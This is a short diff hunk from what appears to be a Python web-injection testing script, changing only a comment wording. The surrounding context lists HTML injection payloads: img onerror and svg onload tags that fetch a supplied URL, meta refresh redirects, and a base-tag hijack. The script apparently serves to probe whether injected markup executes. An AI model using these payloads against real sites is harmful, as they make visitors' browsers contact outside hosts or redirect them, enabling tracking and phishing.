@@ -68,7 +68,7 @@ TRIES = {
     "handler": "<img src=x onerror=\"fetch('{url}', {{mode: 'no-cors'}})\">",
     "svg-onload": "<svg onload=\"fetch('{url}', {{mode: 'no-cors'}})\"></svg>",
 }
-ALONE = {  # these lead the whole page away, so each is tried by itself
+ALONE = {  # these navigate the whole page away, so each is tried separately
     "refresh": '<meta http-equiv="refresh" content="0;url={url}">',
     "refresh-data": '<meta http-equiv="refresh" content="0;url=data:text/html,<img src={url}>">',
     "base": '<base href="{url}/"><img src="relative.png">',
